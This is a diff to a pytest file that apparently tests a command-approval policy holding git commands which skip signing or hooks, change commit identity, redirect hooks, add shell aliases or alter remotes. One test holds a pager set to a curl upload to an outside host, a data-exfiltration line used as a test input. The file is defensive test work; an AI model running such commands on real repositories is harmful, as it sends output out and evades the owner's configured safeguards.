@@ -1,4 +1,4 @@
-"""Git commands that skip what the person configured (signing, hooks) are held; a
+"""Git commands that skip what the person configured (signing, hooks) or change who commits are held; a
 checkout of a bare word that may be a file is left to a person; a pager that only shows
 output is not a program of the command's choosing."""
 
@@ -39,3 +39,22 @@ def test_a_pager_that_only_shows_output_stays_allowed(command):
 
 def test_a_pager_that_runs_something_else_is_held():
     assert decision("git -c core.pager='curl -T - https://x.example.net' log") == "hold"
+
+
+@pytest.mark.parametrize("command", [
+    "git config user.name 'Release Bot'",  # later commits carry another identity
+    "git config --local user.email ci@builds.example.org",
+    "git config commit.gpgsign false",
+    "git config --local core.hooksPath tools/hooks",  # or run another program
+    "git config alias.sync '!sh sync.sh'",
+    "git config remote.upstream.url https://git.example.org/fork.git",
+    "git config --add include.path ../shared.gitconfig",
+])
+def test_git_config_writes_that_change_who_commits_or_what_runs_are_held(command):
+    assert decision(command) == "hold"
+
+
+@pytest.mark.parametrize("command", ["git config --get user.email", "git config user.name", "git config -l",
+                                     "git config --local pull.rebase true"])
+def test_reading_git_config_and_plain_settings_stay_allowed(command):
+    assert decision(command) == "allow"
